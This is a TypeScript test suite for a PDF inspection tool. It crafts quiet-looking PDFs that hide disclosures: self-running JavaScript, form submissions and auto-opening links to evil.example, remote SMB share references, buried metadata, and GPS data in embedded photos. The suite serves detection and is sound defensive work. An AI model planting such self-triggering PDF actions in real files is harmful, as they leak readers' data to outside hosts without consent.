import assert from "node:assert/strict";
import { test } from "node:test";
import { inspectFile } from "../../src/inspect/inspect-file.ts";
import { packFiles } from "./sample-epub.ts";
import { packStream } from "./sample-pdf.ts";
import { quietPdf, takePhoto } from "./telling-files.ts";

/** What is told, a line each: `TEL301 JavaScript`. */
function tell(bytes: Uint8Array): readonly string[] {
  return inspectFile(bytes).disclosure.topics.flatMap(({ findings }) =>
    findings.flatMap(({ code, entries }) => entries.map(({ field }) => `${code} ${field}`)),
  );
}

const XMP = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Mina Kettle"/></rdf:RDF></x:xmpmeta>`;
const SHARE = "\\\\\\\\192.0.2.1\\\\share\\\\x.pdf";
const field = (entries: string, objects = {}) =>
  quietPdf({
    catalog: "/AcroForm<</Fields[9 0 R]>>",
    page: "/Annots[9 0 R]",
    objects: {
      9: `<</Type/Annot/Subtype/Widget/Rect[0 0 1 1]/FT/Tx/T(who)${entries}>>`,
      ...objects,
    },
  });

/** What a file does to be taken for a quiet one, and what it tells all the same. */
const EVASIONS: readonly (readonly [how: string, line: string, file: Uint8Array])[] = [
  [
    "a script that looks like an element of the structure",
    "TEL301 JavaScript",
    quietPdf({ catalog: "/OpenAction<</S/JavaScript/JS(app.alert(1))/P 3 0 R>>" }),
  ],
  [
    "a form that looks like an element of the structure",
    "TEL202 SubmitForm",
    quietPdf({ page: "/AA<</O<</S/SubmitForm/F(https://evil.example)/P 3 0 R>>>>" }),
  ],
  [
    "an address behind an innocent first step",
    "TEL201 URI that opens by itself",
    quietPdf({
      catalog: "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://evil.example/)>>]>>",
    }),
  ],
  [
    "a file on another machine when a page is opened",
    "TEL201 GoToE that opens by itself",
    quietPdf({ page: `/AA<</O<</S/GoToE/F(${SHARE})/D[0/Fit]>>>>` }),
  ],
  [
    "a file on another machine at the start",
    "TEL201 GoToR that opens by itself",
    quietPdf({ catalog: `/OpenAction<</S/GoToR/F<</F(${SHARE})>>/D[0/Fit]>>` }),
  ],
  [
    "a film on the web, named as a file",
    "TEL201 file specification",
    quietPdf({ objects: { 9: "<</Type/Filespec/F(https://evil.example/x.mp4)>>" } }),
  ],
  [
    "metadata of a page that does not say what it is",
    "TEL101 dc:creator",
    quietPdf({ page: "/Metadata 9 0 R", objects: { 9: packStream("", XMP) } }),
  ],
  [
    "metadata of a page that cannot be read",
    "TEL705 XMP",
    quietPdf({
      page: "/Metadata 9 0 R",
      objects: { 9: packStream("/Type/Metadata", `<!DOCTYPE a[<!ENTITY b "c">]>${XMP}`) },
    }),
  ],
  [
    "an information dictionary that nothing leads to any more",
    "TEL101 Info:Author",
    quietPdf({ objects: { 9: "<</Author(Mina Kettle)/Producer(Pot 1.2)>>" } }),
  ],
  ["a value in a list", "TEL853 field who", field("/V[(Mina Kettle)]")],
  ["a value as a stream", "TEL853 field who", field("/V 10 0 R", { 10: packStream("", "Mina") })],
  ["a value to begin with", "TEL853 field who", field("/DV(Mina Kettle)")],
  [
    "a field that lies on no page",
    "TEL853 field who",
    quietPdf({ objects: { 9: "<</FT/Tx/T(who)/V(Mina Kettle)>>" } }),
  ],
  [
    "a link with an author",
    "TEL851 Link",
    quietPdf({ page: "/Annots[<</Subtype/Link/Rect[0 0 1 1]/T(Mina Kettle)>>]" }),
  ],
  [
    "a small picture of a page",
    "TEL702 Thumb",
    quietPdf({
      page: "/Thumb 9 0 R",
      objects: { 9: packStream("/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8", "x") },
    }),
  ],
];

for (const [how, line, file] of EVASIONS)
  test(`PDF: ${how}`, () => {
    const told = tell(file);
    assert.ok(told.includes(line), told.join("\n"));
    assert.ok(!tell(quietPdf()).includes(line), "the sample tells it as well");
  });

test("PDF: photographs in streams that do not say so, and in what is attached", async () => {
  const photo = await takePhoto();
  const picture = "/Subtype/Image/Width 8/Height 8";
  const files: readonly Uint8Array[] = [
    quietPdf({ objects: { 9: packStream("", photo) } }),
    quietPdf({ objects: { 9: packStream(`${picture}/Filter[/DCTDecode/FlateDecode]`, photo) } }),
    quietPdf({ objects: { 9: packStream("/Type/EmbeddedFile", photo) } }),
    quietPdf({
      objects: {
        9: packStream("", packFiles({ "a.jpg": photo })),
        10: "<</Type/Filespec/F(a.zip)/UF(a.zip)/EF<</F 9 0 R>>>>",
      },
    }),
    Buffer.concat([quietPdf(), photo]),
    Buffer.concat([quietPdf(), packFiles({ "a.jpg": photo })]),
  ];
  for (const file of files) assert.ok(tell(file).includes("TEL001 GPS"), tell(file).join("\n"));
});

test("PDF: what is attached and of no kind that is known was not looked into", () => {
  const file = quietPdf({ objects: { 9: packStream("/Type/EmbeddedFile", "\0\x01\x02") } });
  assert.ok(tell(file).includes("TEL705 file"), tell(file).join("\n"));
});
